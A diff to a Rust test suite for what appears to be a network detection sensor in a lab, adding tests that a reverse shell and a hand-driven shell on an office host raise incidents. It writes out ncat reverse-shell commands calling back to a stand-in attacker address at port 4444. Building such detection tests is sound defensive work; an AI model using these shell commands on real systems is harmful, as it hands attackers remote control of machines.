@@ -21,6 +21,30 @@ fn browse(lab: &labnet::Lab, host: &str) {
     assert!(http(lab, host, "http://203.0.113.80/"), "{host} browses");
 }
 
+/// The entry `detector` made in the timeline of `host`'s first incident.
+fn timeline_entry(lab: &labnet::Lab, host: &str, detector: &str) -> serde_json::Value {
+    let id = incidents_of(lab, host)[0]["id"].to_string();
+    let incident = sensorctl_json(lab, &["incident", &id]);
+    let timeline = incident["timeline"].as_array().unwrap();
+    let entry = timeline.iter().find(|t| t["detector"] == detector);
+    entry
+        .cloned()
+        .unwrap_or_else(|| panic!("no {detector} in {incident}"))
+}
+
+/// A service on office1 whose "exploit" (any connection to port 8081)
+/// runs the payload: a shell connected to `listener`.
+fn exploitable_service(lab: &labnet::Lab, listener: &str) -> lab::Job {
+    let service = background(
+        lab,
+        "office1",
+        "service",
+        &format!("exec ncat -l -k 8081 -c 'ncat {listener} -e /bin/sh'"),
+    );
+    wait_listening(lab, "office1", 8081, "the exploited service");
+    service
+}
+
 #[test]
 fn syn_and_connect_scans_isolate_the_scanner_and_a_false_positive_sticks() {
     let lab = lab::start("detscan", &policy());
@@ -656,27 +680,41 @@ fn a_reverse_shell_after_an_inbound_connection_isolates_the_victim() {
         "(sleep 1; echo id; sleep 30) | ncat -l 4444",
     );
     wait_listening(&lab, "c2", 4444, "the attacker's handler");
-    // A service on office1 whose "exploit" runs the payload: it connects
-    // back to the attacker with a shell.
-    let _service = background(
-        &lab,
-        "office1",
-        "service",
-        "exec ncat -l -k 8081 -c 'ncat 203.0.113.66 4444 -e /bin/sh'",
-    );
-    wait_listening(&lab, "office1", 8081, "the exploited service");
+    // The exploited service connects back to the attacker with a shell.
+    let _service = exploitable_service(&lab, "203.0.113.66 4444");
     // The attacker's connection stays open while the shell runs: the
     // attacker leaves after 5 s.
     run(&lab, "c2", "echo exploit | timeout 5 ncat 10.10.0.11 8081");
     assert_isolated_within(&lab, "10.10.0.11", 15, "a reverse shell");
-    let id = incidents_of(&lab, "10.10.0.11")[0]["id"].to_string();
-    let incident = sensorctl_json(&lab, &["incident", &id]);
-    let timeline = incident["timeline"].as_array().unwrap();
-    let callback = timeline
-        .iter()
-        .find(|t| t["detector"] == "callback.reverse");
-    let callback = callback.unwrap_or_else(|| panic!("{incident}"));
+    let callback = timeline_entry(&lab, "10.10.0.11", "callback.reverse");
     assert_eq!(callback["peers"], serde_json::json!(["203.0.113.66:4444"]));
+}
+
+#[test]
+fn a_shell_calling_another_host_and_driven_by_hand_alerts() {
+    let lab = lab::start("dethand", &policy());
+    // The attacker's listener is not the host that sends the exploit: it
+    // types commands into the shell at a person's pace, pausing between
+    // them to read the output (2.5 to 25 s).
+    let _handler = background(
+        &lab,
+        "c2",
+        "handler",
+        "(sleep 3; for p in 3 9 2.5 25 3 6 14 2.5 4 7; do echo id; sleep $p; done; sleep 30) \
+         | ncat -l 4444",
+    );
+    wait_listening(&lab, "c2", 4444, "the attacker's listener");
+    let _service = exploitable_service(&lab, "203.0.113.66 4444");
+    run(&lab, "web", "echo exploit | timeout 5 ncat 10.10.0.11 8081");
+    // Each alone is a weak signal: the connection to a new host on a high
+    // port right after accepting one (35), then the session's rhythm from
+    // its eighth command (30). Together they alert.
+    let found = wait_for(150, || !incidents_of(&lab, "10.10.0.11").is_empty());
+    assert!(found.is_some(), "no incident for the hand-driven shell");
+    for detector in ["callback.new_peer", "shell.interactive"] {
+        let entry = timeline_entry(&lab, "10.10.0.11", detector);
+        assert_eq!(entry["peers"], serde_json::json!(["203.0.113.66:4444"]));
+    }
 }
 
 #[test]
